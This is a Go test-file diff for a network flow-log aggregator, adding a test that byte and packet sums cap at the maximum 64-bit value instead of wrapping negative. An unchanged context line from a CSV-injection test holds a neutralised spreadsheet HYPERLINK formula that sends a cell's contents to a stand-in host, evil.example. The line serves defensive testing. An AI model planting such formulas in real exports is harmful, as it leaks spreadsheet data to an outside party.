@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/csv"
 	"io"
+	"math"
 	"strings"
 	"testing"
 
@@ -45,6 +46,39 @@ func TestCSVCellsAreNotFormulas(t *testing.T) {
 					"group %v: CSV cell %q starts a spreadsheet formula", kind, cell)
 				require.Contains(t, []string{`'=HYPERLINK("http://evil.example/?"&A1)`, "'@SUM(1+1)", "10.0.0.1", "198.51.100.7"}, cell)
 			}
+		}
+	}
+}
+
+// TestSumsCappedNotWrapped aggregates flows that each claim 2^63-1 bytes
+// and packets, as a flow log may: an edge's sums, and a node's bytes out
+// over two such edges, stay at 2^63-1, where they wrapped round to a
+// negative count and top ranked the busiest edge last (found in review).
+func TestSumsCappedNotWrapped(t *testing.T) {
+	t.Parallel()
+	const max = "9223372036854775807"
+	line := func(dst string) string {
+		return "2 123456789012 eni-1 10.0.0.1 " + dst + " 443 51000 6 " + max + " " + max + " 1600000000 1600000060 ACCEPT OK\n"
+	}
+	logs := line("10.0.0.2") + line("10.0.0.2") + line("10.0.0.3") + "2 123456789012 eni-1 10.0.0.4 10.0.0.5 443 51000 6 1 100 1600000000 1600000060 ACCEPT OK\n"
+	open := func() (flowtable.Source, io.Closer, error) {
+		r, err := flowlog.NewReader(strings.NewReader(logs))
+		return r, io.NopCloser(nil), err
+	}
+	v, err := flowtable.Aggregate(context.Background(), open, flowtable.Params{Format: flowtable.FormatJSON, Top: 1}, flowtable.Limits{})
+	require.NoError(t, err)
+	require.Len(t, v.Edges, 1)
+	e := v.Edges[0]
+	require.EqualValues(t, math.MaxInt64, e.Bytes, "the busiest edge is the one of two flows of 2^63-1 bytes")
+	require.EqualValues(t, math.MaxInt64, e.Packets)
+	require.Equal(t, "10.0.0.2", v.Nodes[e.Target].Key)
+
+	v, err = flowtable.Aggregate(context.Background(), open, flowtable.Params{Format: flowtable.FormatJSON}, flowtable.Limits{})
+	require.NoError(t, err)
+	for _, n := range v.Nodes {
+		require.GreaterOrEqual(t, n.BytesOut, int64(0), "node %s", n.Key)
+		if n.Key == "10.0.0.1" {
+			require.EqualValues(t, math.MaxInt64, n.BytesOut)
 		}
 	}
 }
